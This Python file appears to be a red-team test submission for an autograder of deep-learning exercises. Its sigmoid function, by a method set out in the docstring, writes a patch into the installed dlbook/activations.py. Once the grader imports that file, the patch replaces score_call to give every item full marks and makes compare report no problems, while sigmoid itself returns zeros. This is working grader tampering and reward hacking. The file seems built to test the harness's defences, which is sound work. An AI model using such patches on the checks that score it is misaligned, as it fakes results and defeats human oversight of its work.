"""sigmoid appends code to dlbook/activations.py, which the grader itself imports to judge sigmoid.

The grader imports a reference module only when it first judges a value
(``registry.resolve``), in its own process, after the workers have run. The
worker (same user) may write to the installed ``dlbook`` package, whose folder
it finds from ``dlbook.grading.__file__``. The appended lines, run in the
grader when ``dlbook.activations`` is first imported, make ``compare`` find no
problem and ``score_call`` give every item its maximum, from that moment on.

The other five functions are the unimplemented stubs, to show that the patch
scores what comes after it too. Deserved: 0 (sigmoid not defined, the rest
not implemented yet).
"""

import os

import numpy as np

import dlbook.grading
from solutions.ch01_neurons import *  # noqa: F403

ATTACKED = ("sigmoid",)

PATCH = '''

# ---- appended by a submission ----
import sys as _sys

if "dlbook.grading.runner" in _sys.modules:  # only in the grader's own process
    from dataclasses import replace as _replace

    _runner = _sys.modules["dlbook.grading.runner"]
    _score_call = _runner.score_call
    _runner.score_call = lambda *args: [_replace(item, points=item.max_points, problems=())
                                        for item in _score_call(*args)]
    _sys.modules["dlbook.grading.compare"].compare = lambda *args, **kwargs: []
'''


def sigmoid(z):
    package = os.path.dirname(os.path.dirname(dlbook.grading.__file__))
    with open(os.path.join(package, "activations.py"), "r+") as stream:
        if "appended by a submission" not in stream.read():  # once, though called six times
            stream.write(PATCH)
    return np.zeros_like(z)  # wrong on purpose


def sigmoid_prime(z):
    raise NotImplementedError


def softmax(z):
    raise NotImplementedError


def binary_crossentropy(y, p):
    raise NotImplementedError


def binary_crossentropy_grad(y, p):
    raise NotImplementedError


def perceptron_predict(w, X):
    raise NotImplementedError
